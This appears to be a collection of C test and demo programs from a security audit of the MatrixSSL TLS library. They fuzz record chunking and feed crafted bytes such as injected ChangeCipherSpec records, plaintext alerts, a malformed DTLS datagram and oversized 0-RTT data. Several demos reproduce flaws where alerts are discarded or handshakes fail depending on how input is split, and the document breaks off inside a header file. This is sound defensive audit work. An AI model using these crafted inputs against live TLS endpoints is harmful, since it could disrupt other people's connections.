    peer_t cli, svr; unsigned char *w1, *w2, buf[400], *out; int n1, n2; feed_t *r = calloc(1, sizeof(*r));
    unsigned char ccs[6] = { 0x14, 3, 3, 0, 1, 1 };
    matrixSslOpen();
    if (setupPair(&cli, &svr, SSL_FLAGS_TLS_1_3, 0x1301, 0) < 0) return 2;
    n1 = sendApp(&cli, (unsigned char *) "R1-R1", 5, &w1, 0); n2 = sendApp(&cli, (unsigned char *) "R2-R2-R2", 8, &w2, 0);
    memcpy(buf, ccs, 6); memcpy(buf + 6, w1, n1); memcpy(buf + 6 + n1, w2, n2);
    feedBytes(&svr, buf, 6 + n1 + n2, r);
    printf("rc %d err %d delivered %d '%.*s' out %d errflag %d inlen %d\n", r->lastRc, r->err, r->dataLen, r->dataLen, r->data, matrixSslGetOutdata(svr.ssl, &out), !!(svr.ssl->flags & SSL_FLAGS_ERROR), svr.ssl->inlen);
    return 0;
}
