#include "common.h"
#include <time.h>
/* no-attacker fuzz: random record lengths, random feed chunking, both directions */
static int setupPair(peer_t *cli, peer_t *svr, int32 versionFlag, psCipher16_t cipher, int isDtls)
{
    sslSessOpts_t so, co; psCipher16_t c[1]; 
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = versionFlag | (isDtls ? SSL_FLAGS_DTLS : 0);
    cli->name = "client"; svr->name = "server";
    if (loadRsaKeys(&svr->keys) < 0 || loadRsaKeys(&cli->keys) < 0) return -1;
    if (matrixSslNewServerSession(&svr->ssl, svr->keys, NULL, &so) < 0) return -2;
    c[0] = cipher;
    if (matrixSslNewClientSession(&cli->ssl, cli->keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co) < 0) return -3;
    return pumpHandshake(cli, svr, isDtls);
}
int main(int argc, char **argv)
{
    peer_t cli, svr; int32 ver = strtol(argv[1], NULL, 0); psCipher16_t cipher = strtol(argv[2], NULL, 0);
    int iters = argc > 3 ? atoi(argv[3]) : 200; int seed = argc > 4 ? atoi(argv[4]) : 1; int min0 = argc > 5 ? atoi(argv[5]) : 0;
    static unsigned char sent[400000], wire[600000]; int it;
    srand(seed); matrixSslOpen();
    if (setupPair(&cli, &svr, ver, cipher, 0) < 0) { printf("setup fail\n"); return 2; }
    for (it = 0; it < iters; it++)
    {
        peer_t *s = (rand() & 1) ? &cli : &svr, *d = (s == &cli) ? &svr : &cli;
        int nrec = 1 + rand() % 6, i, sentLen = 0, wlen = 0, off = 0; feed_t *r = calloc(1, sizeof(*r));
        for (i = 0; i < nrec; i++)
        {
            int len, j, n; unsigned char *w;
            switch (rand() % 5) { case 0: len = min0 + rand() % 4; break; case 1: len = min0 + rand() % 64; break; case 2: len = 1 + rand() % 2000; break; case 3: len = 16384 - rand() % 40; break; default: len = 1 + rand() % 20000; }
            if (sentLen + len > 60000) len = 1;
            for (j = 0; j < len; j++) sent[sentLen + j] = rand();
            n = sendApp(s, sent + sentLen, len, &w, 0);
            if (n <= 0) { printf("it %d: send len %d rc %d\n", it, len, n); return 1; }
            memcpy(wire + wlen, w, n); wlen += n; free(w); sentLen += len;
        }
        while (off < wlen)
        {
            int chunk; switch (rand() % 4) { case 0: chunk = 1 + rand() % 8; break; case 1: chunk = 1 + rand() % 600; break; case 2: chunk = wlen - off; break; default: chunk = 1 + rand() % 20000; }
            if (chunk > wlen - off) chunk = wlen - off;
            feedBytes(d, wire + off, chunk, r); off += chunk;
            if (r->err < 0) break;
        }
        if (r->err < 0 || r->dataLen != sentLen || memcmp(r->data, sent, sentLen))
        {
            printf("VIOLATION: it %d: err %d lastRc %d sent %d delivered %d\n", it, r->err, r->lastRc, sentLen, r->dataLen); return 1;
        }
        free(r);
    }
    printf("ok %d iterations\n", iters); return 0;
}
