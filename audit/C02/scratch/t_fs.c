#include "common.h"
/* TLS1.2 false start: client sends app data right behind its Finished */
int main(int argc, char **argv)
{
    peer_t cli, svr; sslSessOpts_t so, co; psCipher16_t c[1];
    int32 ver = strtol(argv[1], NULL, 0); unsigned char *w; int n, i; feed_t *r = calloc(1, sizeof(*r));
    int nrec = argc > 3 ? atoi(argv[3]) : 2; int big = argc > 4 ? atoi(argv[4]) : 13;
    static unsigned char msg[20000], all[100000]; int allLen = 0;
    c[0] = strtol(argv[2], NULL, 0);
    if (argc > 5) g_verbose = 1;
    matrixSslOpen();
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = ver;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    /* CH -> server ; SH..SHD -> client */
    n = takeOutdata(&cli, &w, 0); feedBytes(&svr, w, n, r); free(w);
    n = takeOutdata(&svr, &w, 0); memset(r, 0, sizeof(*r)); feedBytes(&cli, w, n, r); free(w);
    printf("client after server flight: rc %d\n", r->lastRc);
    for (i = 0; i < nrec; i++)
    {
        int j; for (j = 0; j < big; j++) msg[j] = 'a' + (i + j) % 26;
        n = matrixSslEncodeToOutdata(cli.ssl, msg, big);
        if (n < 0) { printf("encode rc %d\n", n); return 2; }
        memcpy(all + allLen, msg, big); allLen += big;
    }
    n = takeOutdata(&cli, &w, 0);
    printf("client flight %d bytes\n", n);
    memset(r, 0, sizeof(*r)); feedBytes(&svr, w, n, r);
    printf("server: lastRc %d err %d delivered %d nApp %d inlen %d\n", r->lastRc, r->err, r->dataLen, r->nAppData, svr.ssl->inlen);
    /* flush server flight, poll for buffered data */
    { unsigned char *w2; int n2 = takeOutdata(&svr, &w2, 0); printf("server flight %d\n", n2);
      feedBytes(&svr, w, 0, r);
      { unsigned char *pt; uint32 ptLen; int32 rc = matrixSslReceivedData(svr.ssl, 0, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA) { memcpy(r->data + r->dataLen, pt, ptLen); r->dataLen += ptLen; r->nAppData++; rc = matrixSslProcessedData(svr.ssl, &pt, &ptLen); }
        printf("poll rc %d\n", rc); }
      memset(&r->lastRc, 0, sizeof(int));
      { feed_t *rc2 = calloc(1, sizeof(*rc2)); feedBytes(&cli, w2, n2, rc2); printf("client: rc %d complete %d\n", rc2->lastRc, matrixSslHandshakeIsComplete(cli.ssl)); }
    }
    printf("server total delivered %d of %d, nApp %d\n", r->dataLen, allLen, r->nAppData);
    if (r->dataLen > allLen || memcmp(r->data, all, r->dataLen)) printf("VIOLATION: false start data altered\n");
    else if (r->dataLen != allLen) printf("note: incomplete delivery\n");
    return 0;
}
