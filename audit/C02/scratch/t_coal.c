#include "common.h"
/* TLS1.3 (and 1.2): client Finished coalesced with first app data records in one read */
int main(int argc, char **argv)
{
    peer_t cli, svr; sslSessOpts_t so, co; psCipher16_t c[1];
    int32 ver = strtol(argv[1], NULL, 0); unsigned char *w; int n, i; feed_t *r = calloc(1, sizeof(*r));
    c[0] = strtol(argv[2], NULL, 0);
    if (argc > 3) g_verbose = 1;
    matrixSslOpen();
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = ver;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    /* manual pump until client handshake complete from its own view */
    for (i = 0; i < 10; i++)
    {
        n = takeOutdata(&cli, &w, 0);
        if (n > 0) { memset(r, 0, sizeof(*r)); feedBytes(&svr, w, n, r); free(w); }
        n = takeOutdata(&svr, &w, 0);
        if (n <= 0) break;
        {
            /* feed to client but do not flush client output yet */
            memset(r, 0, sizeof(*r)); feedBytes(&cli, w, n, r); free(w);
            printf("client: rc %d hsComplete(api) %d\n", r->lastRc, matrixSslHandshakeIsComplete(cli.ssl));
            if (matrixSslHandshakeIsComplete(cli.ssl)) break;
        }
    }
    /* client output now holds Finished; append app data */
    n = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "first-request", 13);
    printf("encode rc %d\n", n);
    n = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "second", 6);
    n = takeOutdata(&cli, &w, 0);
    printf("client flight %d bytes\n", n);
    memset(r, 0, sizeof(*r)); feedBytes(&svr, w, n, r);
    printf("server: lastRc %d err %d delivered %d '%.*s' nApp %d\n", r->lastRc, r->err, r->dataLen, r->dataLen, r->data, r->nAppData);
    if (r->dataLen != 19 || memcmp(r->data, "first-requestsecond", 19)) printf("VIOLATION: coalesced data lost or altered\n");
    return 0;
}
