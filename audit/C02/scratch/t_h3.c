#include "common.h"
int main(int argc, char **argv)
{
    peer_t cli, svr; sslSessOpts_t so, co; psCipher16_t c[1] = { 0x1301 };
    unsigned char *w; int n; feed_t *r = calloc(1, sizeof(*r));
    unsigned char alert[7] = { 0x15, 3, 3, 0, 2, 1, 0 };
    unsigned char ccs[6] = { 0x14, 3, 3, 0, 1, 1 };
    unsigned char *out;
    if (argc > 1) g_verbose = 1;
    matrixSslOpen();
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_3;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    if (pumpHandshake(&cli, &svr, 0) < 0) return 2;
    n = sendApp(&cli, (unsigned char *) "hello", 5, &w, 0);
    feedBytes(&svr, w, n, r);
    printf("delivered %d rc %d\n", r->dataLen, r->lastRc);
    /* CCS injection */
    memset(r, 0, sizeof(*r));
    feedBytes(&svr, ccs, 6, r);
    printf("ccs: rc %d err %d out %d\n", r->lastRc, r->err, matrixSslGetOutdata(svr.ssl, &out));
    /* plaintext close_notify */
    memset(r, 0, sizeof(*r));
    feedBytes(&svr, alert, 7, r);
    printf("alert: rc %d err %d gotAlert %d level %d desc %d out %d\n", r->lastRc, r->err, r->gotAlert, r->alertLevel, r->alertDesc, matrixSslGetOutdata(svr.ssl, &out));
    return 0;
}
