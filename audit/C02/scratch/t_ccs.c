#include "common.h"
int main(int argc, char **argv)
{
    peer_t cli, svr; sslSessOpts_t so, co; psCipher16_t c[1] = { 0x003c };
    unsigned char dg[27] = { 0x14, 0xfe, 0xfd, 0,0, 0,0,0,0,0,9, 0,1, 1,
                             0x16, 0xfe, 0xfd, 0,0, 0,0,0,0,0,10, 0x01, 0x00 };
    unsigned char *buf; int32 room; feed_t *r = calloc(1, sizeof(*r));
    matrixSslOpen();
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    if (pumpHandshake(&cli, &svr, 1) < 0) return 2;
    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("before: inbuf %p readbuf %p room %d inlen %d insize %d\n", svr.ssl->inbuf, buf, room, svr.ssl->inlen, svr.ssl->insize);
    feedBytes(&svr, dg, sizeof(dg), r);
    printf("rc %d err %d\n", r->lastRc, r->err);
    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("after: inbuf %p readbuf %p room %d inlen %d insize %d\n", svr.ssl->inbuf, buf, room, svr.ssl->inlen, svr.ssl->insize);
    return 0;
}
