#include "common.h"
/* DTLS, no attacker: client retransmits its last flight (API-documented timeout behaviour)
   and two application records travel in the same datagram */
int main(int argc, char **argv)
{
    peer_t cli, svr; sslSessOpts_t so, co; psCipher16_t c[1] = { 0x003c };
    unsigned char *w, *out; int n; feed_t *r = calloc(1, sizeof(*r));
    if (argc > 1) g_verbose = 1;
    matrixSslOpen();
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    if (pumpHandshake(&cli, &svr, 1) < 0) return 2;
    n = sendApp(&cli, (unsigned char *) "A1", 2, &w, 1); feedBytes(&svr, w, n, r);
    printf("A1: delivered %d rc %d\n", r->dataLen, r->lastRc);
    /* client timer fires: poll for output with nothing queued */
    n = matrixDtlsGetOutdata(cli.ssl, &out); printf("poll1 %d\n", n);
    n = matrixDtlsGetOutdata(cli.ssl, &out); printf("poll2 %d (flight rebuilt)\n", n);
    /* application queues two more records before the datagram leaves */
    matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "A2-A2", 5);
    matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "A3-A3-A3", 8);
    for (;;)
    {
        int o;
        n = matrixDtlsGetOutdata(cli.ssl, &out); if (n <= 0) break;
        printf("datagram %d bytes:", n);
        for (o = 0; o + 13 <= n; ) { int l = (out[o+11] << 8) | out[o+12]; printf(" [t%d ep%d seq%d len%d]", out[o], out[o+4], out[o+10], l); o += 13 + l; }
        printf("\n");
        memset(r, 0, sizeof(*r)); feedBytes(&svr, out, n, r);
        printf("  server: rc %d err %d delivered %d '%.*s'\n", r->lastRc, r->err, r->dataLen, r->dataLen, r->data);
        { unsigned char *so2; int sn = matrixSslGetOutdata(svr.ssl, &so2); if (sn > 0) { hexdump("  server out", so2, sn); } }
        matrixDtlsSentData(cli.ssl, n);
        if (svr.ssl->flags & SSL_FLAGS_ERROR) { printf("  server session flagged ERROR\n"); break; }
    }
    return 0;
}
