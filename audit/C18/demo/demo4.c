/* C18 demo 4: TLS <= 1.2 - a record that is in the buffer behind the handshake
   message that ends a flight is silently discarded (unless it is application
   data behind a client Finished - the False Start special case).

   sslDecode.c:matrixSslDecodeTls12AndBelow(), case SSL_PROCESS_DATA after
   parseSSLHandshake() (line ~1692-1770): with unparsed bytes behind the
   record (c < origbuf + *len) the code only asserts
   ("psAssert(origbuf + *len == c)" - "If this asserts, please report"), sets
   *buf = origbuf and encodes the response over the unread bytes;
   matrixsslApi.c:matrixSslReceivedData(), case SSL_SEND_RESPONSE, then sets
   ssl->inlen = 0 ("there is no way there is anything left inside inbuf").
   Delivered in its own receive call the same record is decoded normally.

   Part A (server): the client's ClientKeyExchange, ChangeCipherSpec, Finished
   and a close_notify alert (the client gives up right after its Finished).
   Part B (client): the server's ServerHello..ServerHelloDone followed by a
   fatal alert internal_error(80).
   Part C (client, related, matrixsslApi.c case SSL_ALERT): the server's
   ChangeCipherSpec, Finished and a close_notify.  Nothing is lost here, but
   when the alert is decoded in the same call as the Finished the session never
   reports MATRIXSSL_HANDSHAKE_COMPLETE and never stores the session in
   ssl->sid (BFLAG_HS_COMPLETE / matrixSslGetSessionId are only reached on the
   SUCCESS and PROCESS_DATA paths), so the next connection made with the same
   sslSessionId_t sends a different ClientHello (no resumption offer). */
#include "harness.h"

static sslKeys_t *g_keys;
static ep_t C, S;
static bytes_t X;
static sslSessionId_t *g_sid;

static void mkpair(sslSessionId_t *sid)
{
    sslSessOpts_t so, co;
    memset(&C, 0, sizeof(C)); memset(&S, 0, sizeof(S));
    C.name = "cli"; S.name = "srv";
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_2; co.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&S.ssl, g_keys, NULL, &so) < 0)
    {
        printf("new server failed\n"); exit(2);
    }
    if (matrixSslNewClientSession(&C.ssl, g_keys, sid, NULL, 0,
            certCbAccept, NULL, NULL, NULL, &co) < 0)
    {
        printf("new client failed\n"); exit(2);
    }
    ep_drain(&C);
}

static void xfer(ep_t *from, ep_t *to, int pol)
{
    bytes_t w = { 0 };
    bytes_add(&w, from->out.b, from->out.n); from->out.n = 0;
    ep_recv_chunked(to, w.b, w.n, pol);
    free(w.b);
}

static void serverGets(int variant, char *sum, size_t len)
{
    ep_recv_chunked(&S, X.b, X.n, variant);
    ep_summary(&S, sum, len);
}
static void clientGets(int variant, char *sum, size_t len)
{
    ep_recv_chunked(&C, X.b, X.n, variant);
    ep_summary(&C, sum, len);
}
static void clientGetsThenReconnects(int variant, char *sum, size_t len)
{
    size_t o;
    int ev;
    ep_recv_chunked(&C, X.b, X.n, variant);
    ep_summary(&C, sum, len);
    ev = C.hsCompleteEv;
    o = strlen(sum);
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);
    mkpair(g_sid);
    /* (the HANDSHAKE_COMPLETE event itself may be subsumed by the alert or
       application data return code, as documented; it is printed but not
       compared) */
    printf("  [variant %d: HANDSHAKE_COMPLETE events=%d]\n", variant, ev);
    snprintf(sum + o, len - o, " next ClientHello with this sid: %zu bytes", C.out.n);
}

static int compare(const char *name, variantFn_t fn)
{
    char a[8192], b[8192], c[8192];
    run_variant(fn, CH_ALL, a, sizeof(a));
    run_variant(fn, CH_RECORD, b, sizeof(b));
    run_variant(fn, CH_BYTE, c, sizeof(c));
    printf("== %s (%zu bytes)\n  one call   : %s\n  per record : %s\n  per byte   : %s\n",
        name, X.n, a, b, c);
    return strcmp(a, b) || strcmp(b, c);
}

int main(int argc, char **argv)
{
    const char *parts = argc > 1 ? argv[1] : "abc";
    static const unsigned char fatal80[] = { 0x15, 3, 3, 0, 2, 2, 80 };
    int bad = 0;

    matrixSslOpen();
    g_keys = mkKeys();

    /* Part A */
    if (strchr(parts, 'a'))
    {
    mkpair(NULL);
    xfer(&C, &S, CH_ALL);
    xfer(&S, &C, CH_ALL);                 /* C.out = CKE, CCS, Finished */
    matrixSslEncodeClosureAlert(C.ssl);   /* ... and the client gives up */
    ep_drain(&C);
    X.n = 0; bytes_add(&X, C.out.b, C.out.n);
    if (compare("A: server receives [ClientKeyExchange][CCS][Finished][close_notify]", serverGets))
    {
        printf("VIOLATION: in one receive call the close_notify is discarded: no "
            "alert is reported, SSL_FLAGS_CLOSED stays clear and the server treats "
            "the connection as established; in separate calls the alert (1,0) is "
            "reported and the session is closed\n");
        bad = 1;
    }
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);

    }
    /* Part B */
    if (strchr(parts, 'b'))
    {
    mkpair(NULL);
    xfer(&C, &S, CH_ALL);
    X.n = 0; bytes_add(&X, S.out.b, S.out.n); bytes_add(&X, fatal80, sizeof(fatal80));
    if (compare("B: client receives [ServerHello..ServerHelloDone][fatal alert internal_error]", clientGets))
    {
        printf("VIOLATION: in one receive call the fatal alert is discarded and "
            "the client keeps handshaking (no alert, SSL_FLAGS_ERROR clear); in "
            "separate calls the alert (2,80) is reported and the session is dead\n");
        bad = 1;
    }
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);

    }
    /* Part C */
    if (strchr(parts, 'c'))
    {
    matrixSslNewSessionId(&g_sid, NULL);
    mkpair(g_sid);
    printf("ClientHello with an empty sid: %zu bytes\n", C.out.n);
    xfer(&C, &S, CH_ALL);
    xfer(&S, &C, CH_ALL);
    xfer(&C, &S, CH_ALL);                 /* S.out = CCS, Finished */
    matrixSslEncodeClosureAlert(S.ssl); ep_drain(&S);
    X.n = 0; bytes_add(&X, S.out.b, S.out.n);
    if (compare("C: client receives [CCS][Finished][close_notify], then reconnects with the same sid", clientGetsThenReconnects))
    {
        printf("VIOLATION: in one receive call the client "
            "does not store the session: its "
            "next ClientHello carries no session to resume; in separate calls it "
            "does\n");
        bad = 1;
    }
    }
    if (!bad)
    {
        printf("OK: every partition of the same bytes gave the same result\n");
    }
    return bad;
}
