/* C18 demo 3: TLS 1.3 - when a message that needs a handshake response is
   followed by more bytes in the same receive call, the response is encoded
   into outbuf instead of inbuf; if it does not fit there the session fails
   with PS_PROTOCOL_FAIL ("Encoding error"), although the very same bytes
   delivered record by record complete the handshake.

   tls13Decode.c:matrixSslDecodeTls13(), label encodeResponse (line ~576-639):
   with unparsed bytes behind the current record (p != *in + *len) the
   response goes to ssl->outbuf + ssl->outlen with size outsize - outlen.
   If sslEncodeResponse() answers SSL_FULL the function returns SSL_FULL like
   the inbuf case does.  matrixsslApi.c:matrixSslReceivedData(), case SSL_FULL,
   only knows the inbuf case: it throws the rest of the input away
   (ssl->inlen = 0), grows *inbuf* when reqLen > insize and otherwise returns
   PS_PROTOCOL_FAIL.  outbuf is never grown.

   Part A (server): a returning client sends ClientHello + 0-RTT data, but the
   server can no longer decrypt the ticket (new ticket key after a restart), so
   it falls back to a full handshake whose certificate flight (~1.7 kB) is
   larger than the 1500 byte outbuf.  RFC 8446 4.2.10 wants the early data
   skipped; that is what happens record by record.  In one receive call the
   server dies without sending anything.  With the default 1500 byte inbuf and
   reads of "whatever fits" (ClientHello + first part of the early-data
   record) reqLen > insize: inbuf is grown, the partial record is dropped with
   ssl->inlen = 0, the flight is sent, and the rest of the early-data record is
   then parsed from its middle: illegal_parameter, connection dead.

   Part B (client): a 0-RTT client still has a queued, unsent request in
   outbuf when the server's ServerHello..Finished arrive together with the
   server's 0.5-RTT answer to the first request.  EndOfEarlyData + Finished do
   not fit behind the queued request: PS_PROTOCOL_FAIL.  Record by record the
   response is built in inbuf and appended to outbuf with a realloc. */
#include "harness.h"

static ep_t C, S;
static sslSessionId_t *g_sid;
static bytes_t X;

static void mkpair(sslKeys_t *sk, sslKeys_t *ck)
{
    sslSessOpts_t so, co;
    psCipher16_t suite = TLS_AES_128_GCM_SHA256;
    memset(&C, 0, sizeof(C)); memset(&S, 0, sizeof(S));
    C.name = "cli"; S.name = "srv";
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_3; co.versionFlag = SSL_FLAGS_TLS_1_3;
    so.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&S.ssl, sk, NULL, &so) < 0)
    {
        printf("new server failed\n"); exit(2);
    }
    if (matrixSslNewClientSession(&C.ssl, ck, g_sid, &suite, 1,
            certCbAccept, NULL, NULL, NULL, &co) < 0)
    {
        printf("new client failed\n"); exit(2);
    }
}

static void pump(int pol)
{
    int i;
    for (i = 0; i < 30 && (C.out.n || S.out.n); i++)
    {
        if (C.out.n)
        {
            bytes_t w = { 0 };
            bytes_add(&w, C.out.b, C.out.n); C.out.n = 0;
            ep_recv_chunked(&S, w.b, w.n, pol);
            free(w.b);
        }
        if (S.out.n)
        {
            bytes_t w = { 0 };
            bytes_add(&w, S.out.b, S.out.n); S.out.n = 0;
            ep_recv_chunked(&C, w.b, w.n, pol);
            free(w.b);
        }
    }
}

static void shorten(char *s)
{
    /* collapse the long run of 'q' in the summaries */
    char *p = strstr(s, "qqqqqqqq");
    if (p)
    {
        char *e = p;
        while (*e == 'q') e++;
        memmove(p + 4, e, strlen(e) + 1);
        memcpy(p, "q...", 4);
    }
}

static void both(char *sum, size_t len)
{
    size_t o;
    snprintf(sum, len, "srv: ");
    o = strlen(sum); ep_summary(&S, sum + o, len - o);
    o = strlen(sum); snprintf(sum + o, len - o, " | cli: ");
    o = strlen(sum); ep_summary(&C, sum + o, len - o);
    shorten(sum); shorten(sum);
}

static void partA(int variant, char *sum, size_t len)
{
    ep_recv_chunked(&S, X.b, X.n, variant);
    pump(CH_RECORD);
    if (!C.err && matrixSslHandshakeIsComplete(C.ssl))
    {
        ep_send_app(&C, "late;"); ep_drain(&C); pump(CH_RECORD);
    }
    both(sum, len);
}

static void partB(int variant, char *sum, size_t len)
{
    ep_recv_chunked(&C, X.b, X.n, variant);
    ep_drain(&C);
    pump(CH_RECORD);
    both(sum, len);
}

static int compare(const char *name, variantFn_t fn)
{
    char a[8192], b[8192], c[8192], d[8192];
    run_variant(fn, CH_READBUF, d, sizeof(d));
    run_variant(fn, CH_ALL, a, sizeof(a));
    run_variant(fn, CH_RECORD, b, sizeof(b));
    run_variant(fn, CH_BYTE, c, sizeof(c));
    printf("== %s (%zu bytes)\n  one call   : %s\n  readbuf-sized calls: %s\n  per record : %s\n  per byte   : %s\n",
        name, X.n, a, d, b, c);
    return strcmp(a, b) || strcmp(b, c) || strcmp(d, b);
}

int main(void)
{
    sslKeys_t *sk, *sk2, *ck;
    static char big[2000];
    unsigned char name[16] = "ticketkeyname00", sym[32] = { 1 }, mac[32] = { 2 };
    unsigned char name2[16] = "ticketkeyname01", sym2[32] = { 3 }, mac2[32] = { 4 };
    int bad = 0;

    matrixSslOpen();
    sk = mkKeys(); sk2 = mkKeys(); ck = mkKeys();
    matrixSslLoadSessionTicketKeys(sk, name, sym, 32, mac, 32);
    matrixSslLoadSessionTicketKeys(sk2, name2, sym2, 32, mac2, 32);

    /* ---------- Part A ---------- */
    matrixSslNewSessionId(&g_sid, NULL);
    mkpair(sk, ck); ep_drain(&C); pump(CH_RECORD);     /* get a ticket */
    if (!matrixSslHandshakeIsComplete(C.ssl) || C.err)
    {
        printf("first handshake failed\n"); return 2;
    }
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);
    mkpair(sk2, ck);                    /* server now has another ticket key */
    if (matrixSslGetMaxEarlyData(C.ssl) <= 0)
    {
        printf("client cannot send early data\n"); return 2;
    }
    memset(big, 0, sizeof(big)); memset(big, 'q', 1600);
    ep_send_app(&C, big);
    ep_drain(&C);
    X.n = 0; bytes_add(&X, C.out.b, C.out.n); C.out.n = 0;
    if (compare("A: server with a new ticket key receives ClientHello + 1600 bytes of 0-RTT data", partA))
    {
        printf("VIOLATION: delivered in one receive call the server fails with "
            "PS_PROTOCOL_FAIL (-12) and emits nothing; delivered the way an "
            "ordinary application reads (as much as matrixSslGetReadbuf() offers: "
            "ClientHello + the first part of the early-data record) the partial "
            "record is thrown away (inlen = 0), its tail is then parsed as a "
            "record header and the server kills the connection with "
            "illegal_parameter; delivered record by record it skips the early "
            "data and completes a full handshake\n");
        bad = 1;
    }
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);
    matrixSslDeleteSessionId(g_sid);

    /* ---------- Part B ---------- */
    matrixSslNewSessionId(&g_sid, NULL);
    mkpair(sk, ck); ep_drain(&C); pump(CH_RECORD);
    matrixSslDeleteSession(C.ssl); matrixSslDeleteSession(S.ssl);
    mkpair(sk, ck);
    ep_send_app(&C, "EARLY-REQUEST-1;");
    ep_drain(&C);
    {
        bytes_t w = { 0 };
        bytes_add(&w, C.out.b, C.out.n); C.out.n = 0;
        ep_recv_chunked(&S, w.b, w.n, CH_RECORD);
        free(w.b);
    }
    if (S.pt.n == 0)
    {
        printf("server did not accept early data\n"); return 2;
    }
    ep_send_app(&S, "HALF-RTT-REPLY"); ep_drain(&S);   /* 0.5-RTT answer */
    X.n = 0; bytes_add(&X, S.out.b, S.out.n); S.out.n = 0;
    memset(big, 0, sizeof(big)); memset(big, 'q', 1440);
    ep_send_app(&C, big);   /* second early request, queued, not yet sent */
    printf("client: %d bytes queued in outbuf of %d\n", C.ssl->outlen, C.ssl->outsize);
    if (compare("B: client with a queued request receives ServerHello..Finished + 0.5-RTT reply", partB))
    {
        printf("VIOLATION: delivered in one receive call the client fails with "
            "PS_PROTOCOL_FAIL (-12), the reply is lost and the handshake never "
            "completes; delivered record by record everything arrives\n");
        bad = 1;
    }
    if (!bad)
    {
        printf("OK: every partition of the same bytes gave the same result\n");
    }
    return bad;
}
