#!/bin/sh
# Builds all demos against the static libraries of the worktree
# (run `make -j4` at the worktree top level first).
# ./build.sh explore  additionally builds the exploration programs in explore/.
set -e
cd "$(dirname "$0")"
TOP=../..
CFLAGS="-I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -I$TOP -DUSE_CL_PKCS -DUSE_CL_CERTLIB -O1 -g -Wall -Wno-unused-function -Wno-unused-variable"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for f in demo*.c; do
  cc $CFLAGS -o "${f%.c}" "$f" $LIBS
done
if [ "$1" = explore ]; then
  for f in explore/explore*.c; do
    cc $CFLAGS -I. -o "${f%.c}" "$f" $LIBS
  done
fi
