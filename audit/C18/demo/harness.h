/* Shared in-memory harness for the C18 (chunking independence) demos.
   Drives the real MatrixSSL public API; no library source is changed. */
#ifndef C18_HARNESS_H
#define C18_HARNESS_H

#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>

#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"

typedef struct
{
    unsigned char *b;
    size_t n, cap;
} bytes_t;

static void bytes_add(bytes_t *v, const unsigned char *p, size_t n)
{
    if (v->n + n > v->cap)
    {
        v->cap = (v->n + n) * 2 + 64;
        v->b = realloc(v->b, v->cap);
    }
    memcpy(v->b + v->n, p, n);
    v->n += n;
}
static void bytes_drop(bytes_t *v, size_t n)
{
    memmove(v->b, v->b + n, v->n - n);
    v->n -= n;
}

typedef struct
{
    ssl_t *ssl;
    const char *name;
    bytes_t pt;        /* concatenated plaintext delivered to the application */
    bytes_t out;       /* bytes the session emitted, not yet put on the wire */
    size_t outTotal;   /* all bytes ever emitted */
